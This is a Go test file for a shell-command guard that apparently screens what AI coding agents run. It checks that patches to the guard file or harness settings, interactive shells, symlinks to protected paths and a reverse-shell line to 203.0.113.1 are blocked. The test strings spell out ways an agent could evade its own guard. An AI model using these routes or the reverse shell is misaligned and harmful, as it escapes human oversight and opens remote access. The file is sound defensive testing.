package shell

import (
	"testing"

	"gotest.tools/v3/assert"

	"github.com/abcd-dev/abcd/domain/guard"
)

// TestApplyPatchThroughTheShell: apply_patch run as a command (which Codex takes over and applies
// itself) is read as the patch it is, each file checked where it runs; one the guard cannot read is
// blocked; an ordinary patch is allowed.
func TestApplyPatchThroughTheShell(t *testing.T) {
	reg := registry(t)
	patch := func(header string) string {
		return "*** Begin Patch\n*** Add File: ok.txt\n+x\n" + header + "\n+{}\n*** End Patch\n"
	}
	for name, tc := range map[string]struct {
		line, rule string
	}{
		"heredoc":              {"apply_patch <<'EOF'\n" + patch("*** Add File: .abcd/guard.json") + "EOF\n", "guard-file-write"},
		"unquoted heredoc":     {"apply_patch <<EOF\n" + patch("*** Update File: .claude/settings.json") + "EOF\n", "harness-settings-write"},
		"applypatch":           {"applypatch <<'EOF'\n" + patch("*** Add File: .abcd/guard.json") + "EOF\n", "guard-file-write"},
		"first argument":       {"apply_patch '" + patch("*** Add File: .abcd/guard.json") + "'", "guard-file-write"},
		"after cd":             {"cd .abcd && apply_patch <<'EOF'\n" + patch("*** Add File: guard.json") + "EOF\n", "guard-file-write"},
		"cd then path":         {"cd src && /usr/local/bin/apply_patch <<'EOF'\n" + patch("*** Delete File: ../.abcd/guard.json") + "EOF\n", "guard-file-write"},
		"indented header":      {"apply_patch <<'EOF'\n" + patch("  *** Add File: .abcd/guard.json") + "EOF\n", "guard-file-write"},
		"trailing space":       {"apply_patch <<'EOF'\n" + patch("*** Add File: .abcd/guard.json  ") + "EOF\n", "guard-file-write"},
		"in bash -lc":          {`bash -lc "apply_patch <<'EOF'` + "\n" + patch("*** Add File: .abcd/guard.json") + `EOF"`, "guard-file-write"},
		"here-string":          {"apply_patch <<< '" + patch("*** Move to: .abcd/guard.json") + "'", "guard-file-write"},
		"unknown text":         {"apply_patch \"$P\"", guard.UnreadableRule},
		"from a file":          {"apply_patch < p.diff", guard.UnreadableRule},
		"piped from cat":       {"cat p.diff | apply_patch", guard.UnreadableRule},
		"no patch":             {"apply_patch", guard.UnreadableRule},
		"unparsed header":      {"apply_patch <<'EOF'\n" + patch("***  Add File: .abcd/guard.json") + "EOF\n", guard.UnreadableRule},
		"no file":              {"apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF\n", guard.UnreadableRule},
		"variable in a header": {"apply_patch <<EOF\n" + patch("*** Add File: $D/guard.json") + "EOF\n", guard.UnreadableRule},
	} {
		v := check(t, reg, tc.line)
		assert.Check(t, v.Decision == guard.Block && hasRule(v, tc.rule), "%s: %q: got %s %s (%s)", name, tc.line, v.Decision, v.Rule, v.Why)
	}
	for _, line := range []string{
		"apply_patch <<'EOF'\n" + patch("*** Update File: src/main.go") + "EOF\n",
		"cd src && apply_patch <<'EOF'\n" + patch("*** Delete File: old.go") + "EOF\n",
	} {
		v := check(t, reg, line)
		assert.Check(t, v.Decision == guard.Allow, "%q: got %s %s (%s)", line, v.Decision, v.Rule, v.Why)
	}
}

// TestInteractiveShellsAreBlocked: a shell or a REPL started with nothing to run reads what is typed
// into it later (Codex's write_stdin into a session), which the guard never sees; the same programs
// given a script, -c, input or asked their version run as before.
func TestInteractiveShellsAreBlocked(t *testing.T) {
	reg := registry(t)
	for _, line := range []string{"bash", "sh", "zsh", "bash -i", "bash -l", "bash --norc -i", "dash", "fish", "env bash", "nohup bash",
		"python3", "python3 -i", "python", "node", "node -i", "ruby", "perl", "irb", "cd src && bash", "timeout 60 bash", "sh -", "bash -s", "nice bash", "command bash", "env -i bash --login",
		"sudo -i", "sudo -s", "su", "su -", "su - postgres", "runuser -l dev"} {
		v := check(t, reg, line)
		assert.Check(t, v.Decision == guard.Block && hasRule(v, guard.UnreadableRule), "%q: got %s %s (%s)", line, v.Decision, v.Rule, v.Why)
	}
	v := check(t, reg, "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1")
	assert.Check(t, v.Decision == guard.Block && hasRule(v, "reverse-shell"), "%+v", v)
	for _, line := range []string{"bash -c 'echo hi'", "bash script.sh", "bash -s <<'EOF'\necho hi\nEOF", "echo ls | bash", "bash --version",
		"python3 script.py", "python3 -m pytest", "python3 -c 'print(1)'", "python3 --version", "node app.js", "node -e 'console.log(1)'", "node --version",
		"node -v", "ruby -v", "perl -v", "sh ./configure", "python3 < input.py", "exec bash", "ssh-agent bash", "echo ls | sh -", "sudo -l", "su -c 'id' dev", "echo id | su dev", "sudo -u dev ls"} {
		v := check(t, reg, line)
		assert.Check(t, v.Decision != guard.Block, "%q: got %s %s (%s)", line, v.Decision, v.Rule, v.Why)
	}
}

// TestLinksToGuardedPathsAreBlocked: a write through a link is a write to what it names, so a link
// to the guard file, the harnesses' settings or abcd's machine folder is blocked however the target
// is spelled: relative, absolute, through ~ or $HOME, or a glob that can match it.
func TestLinksToGuardedPathsAreBlocked(t *testing.T) {
	reg := registry(t)
	for _, line := range []string{"ln -s /home/dev/proj/.abcd l1", "ln -s .abc? l9", "ln -s /abs/.abcd/guard.json g2", "cp -s /abs/.abcd/guard.json g3",
		"ln -s .abcd x", "ln -s ~/.abcd/config.json c", "ln -s /x/.claude c", "ln -sf /x/.codex c", "ln -s $HOME/.gemini g", "ln -s /x/.abcd/guard.js* y",
		"ln -t links /x/.abcd", "cp --symbolic-link /srv/r/.claude/settings.json s", "ln /home/dev/proj/.abcd/guard.json hard", "ln -s /x/.a*/guard.json g",
		// a link into a guarded folder reaches the folder through .. (L/../guard.json)
		"ln -s /home/dev/proj/.abcd/sub l2", "ln -s .abcd/sub/deeper l3", "ln -s /home/dev/.claude/plugins/x p", "ln -s ~/.abcd/runs r"} {
		v := check(t, reg, line)
		assert.Check(t, v.Decision == guard.Block, "%q: got %s %s (%s)", line, v.Decision, v.Rule, v.Why)
	}
	for _, line := range []string{"ln -s ../shared/config.json config.json", "ln -s src/lib lib", "ln -sf /usr/bin/python3 bin/python", "cp -r src dst",
		"cp a.json b.json", "ln -s '/x/.ab*' q"} {
		v := check(t, reg, line)
		assert.Check(t, v.Decision == guard.Allow, "%q: got %s %s (%s)", line, v.Decision, v.Rule, v.Why)
	}
}
